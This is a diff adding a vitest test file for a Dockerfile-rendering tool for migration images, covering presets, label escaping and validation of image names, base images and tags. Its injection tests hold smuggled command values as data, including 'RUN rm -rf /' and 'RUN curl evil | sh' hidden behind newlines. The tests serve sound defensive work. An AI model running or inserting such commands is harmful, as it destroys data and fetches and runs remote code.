@@ -1,0 +1,109 @@
+import { describe, expect, it } from 'vitest'
+import { renderDockerfile } from '../src/core/dockerfile.js'
+import { parseBaseImage, parseImageName, assertTag } from '../src/core/image-ref.js'
+import { getPreset } from '../src/core/presets.js'
+
+const labels = {
+  'org.opencontainers.image.source': 'https://github.com/acme/api',
+  'org.opencontainers.image.revision': '0123456789abcdef0123456789abcdef01234567',
+  'org.opencontainers.image.created': '2026-11-23T00:00:00.000Z',
+  'org.opencontainers.image.title': 'ghcr.io/acme/api-migrations',
+  'io.migration-image.count': '3',
+  'io.migration-image.checksum': 'h1:TIAXzXj2/dleXU50qRzsJ6W0OrCn9j5LvfQJUy58/uw=',
+}
+
+describe('Dockerfile rendering', () => {
+  it('atlas preset', () => {
+    const preset = getPreset('atlas')
+    expect(renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels })).toMatchInlineSnapshot(`
+      "FROM arigaio/atlas:0.38.0
+      COPY migrations/ /migrations/
+      LABEL org.opencontainers.image.source="https://github.com/acme/api" \\
+            org.opencontainers.image.revision="0123456789abcdef0123456789abcdef01234567" \\
+            org.opencontainers.image.created="2026-11-23T00:00:00.000Z" \\
+            org.opencontainers.image.title="ghcr.io/acme/api-migrations" \\
+            io.migration-image.count="3" \\
+            io.migration-image.checksum="h1:TIAXzXj2/dleXU50qRzsJ6W0OrCn9j5LvfQJUy58/uw="
+      "
+    `)
+  })
+
+  it('psql preset: runner entrypoint, numeric non-root user, env', () => {
+    const preset = getPreset('psql')
+    expect(renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels: {} })).toMatchInlineSnapshot(`
+      "FROM postgres:17-alpine
+      COPY migrations/ /migrations/
+      COPY migrate.sh /usr/local/bin/migration-image-migrate
+      ENV MIGRATIONS_DIR="/migrations"
+      USER 65534:65534
+      ENTRYPOINT ["/usr/local/bin/migration-image-migrate"]
+      CMD []
+      "
+    `)
+  })
+
+  it('has no RUN step and no syntax directive', () => {
+    for (const tool of ['atlas', 'psql']) {
+      const preset = getPreset(tool)
+      const text = renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels })
+      expect(text).not.toMatch(/^RUN /m)
+      expect(text).not.toMatch(/^# *syntax/m)
+    }
+  })
+
+  it('label values cannot break out: quotes, backslashes and $ are escaped, newlines refused', () => {
+    const preset = getPreset('atlas')
+    const text = renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels: { 'a.b': 'x" \\ $HOME' } })
+    expect(text).toContain('LABEL a.b="x\\" \\\\ \\$HOME"')
+    expect(() =>
+      renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels: { 'a.b': 'x\nRUN rm -rf /' } }),
+    ).toThrow(/control character/)
+    expect(() => renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels: { 'a b': 'x' } })).toThrow(
+      /label key/,
+    )
+  })
+})
+
+describe('image references', () => {
+  it('base image: versioned tags and digests pass; latest, no tag and injections are refused', () => {
+    expect(parseBaseImage('postgres:17-alpine')).toEqual({ reference: 'postgres:17-alpine', pinned: false })
+    const digest = `sha256:${'a'.repeat(64)}`
+    expect(parseBaseImage(`postgres:17-alpine@${digest}`).pinned).toBe(true)
+    expect(parseBaseImage(`127.0.0.1:5055/base/psql:15`).pinned).toBe(false)
+    for (const bad of [
+      'postgres',
+      'postgres:latest',
+      'postgres:17\nRUN curl evil | sh',
+      'postgres:17 AS x',
+      '--build-arg=x',
+      'postgres:17@sha256:short',
+      'Postgres:17',
+    ]) {
+      expect(() => parseBaseImage(bad), bad).toThrow(/base-image/)
+    }
+  })
+
+  it('image names: registry split, lowercased path, tags refused', () => {
+    expect(parseImageName('ghcr.io/Acme/API-migrations')).toEqual({
+      registry: 'ghcr.io',
+      repository: 'acme/api-migrations',
+      name: 'ghcr.io/acme/api-migrations',
+      lowercased: true,
+    })
+    expect(parseImageName('127.0.0.1:5055/acme/x')).toMatchObject({
+      registry: '127.0.0.1:5055',
+      repository: 'acme/x',
+      lowercased: false,
+    })
+    expect(parseImageName('acme/x')).toMatchObject({ registry: 'docker.io', name: 'acme/x' })
+    for (const bad of ['ghcr.io/acme/x:tag', 'ghcr.io/acme/x@sha256:abc', 'ghcr.io/acme/x y', '-flag', 'ghcr.io//x']) {
+      expect(() => parseImageName(bad), bad).toThrow(/not an image name/)
+    }
+  })
+
+  it('tags: docker tag syntax', () => {
+    expect(assertTag('v1.2.3_rc-1')).toBe('v1.2.3_rc-1')
+    for (const bad of ['', '-x', '.x', 'a/b', 'a:b', 'x'.repeat(129), 'a b'])
+      expect(() => assertTag(bad), bad).toThrow(/not a valid image tag/)
+  })
+})
